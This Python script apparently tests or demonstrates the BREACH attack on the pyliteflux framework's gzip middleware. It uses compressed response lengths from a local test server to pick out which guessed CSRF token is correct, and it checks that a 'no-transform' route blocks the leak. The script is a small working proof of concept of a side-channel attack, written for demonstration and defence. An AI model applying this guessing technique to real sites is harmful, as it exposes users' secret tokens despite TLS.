"""BREACH: a compressed page tells a secret by its length, TLS or not."""

import http.client

from pyliteflux import GzipMiddleware, Router, Server

SECRET = "csrf_token=pelican-harbour-4821"
router = Router()


def page(request):
    """A search page: the attacker's words and the user's secret in one answer."""
    return f"<p>no results for {request.query_params['q']}</p>" + "<hr>" * 200 + SECRET


router.get("/search")(page)
router.get("/careful")(lambda request: (page(request), {"Cache-Control": "no-transform"}))
server = Server(router, http_port=0, tcp_port=0, info=False)
server.add_middleware(GzipMiddleware())


def length(path, guess):
    """Return what anyone on the line can see: how long the answer is."""
    connection = http.client.HTTPConnection(*server.http_address, timeout=10)
    connection.request("GET", f"{path}?q=csrf_token={guess}", headers={"Accept-Encoding": "gzip"})
    size = len(connection.getresponse().read())
    connection.close()
    return size


guesses = ["walnut-sparkle-9057", "pelican-harbour-4821", "monday-trumpet-36520"]
guesses = [guess.ljust(20, "0") for guess in guesses]  # Equally long, to be fair.

with server:
    for path in ("/search", "/careful"):
        lengths = {guess: length(path, guess) for guess in guesses}
        if len(set(lengths.values())) == 1:
            print(path, "all lengths are equal: nothing to learn")
        else:
            shortest = min(lengths, key=lengths.get)
            others = sorted(lengths.values())[1]
            print(path, "the shortest answer is for", shortest)
            print(" " * len(path), "by more than 5 bytes:", others - lengths[shortest] > 5)
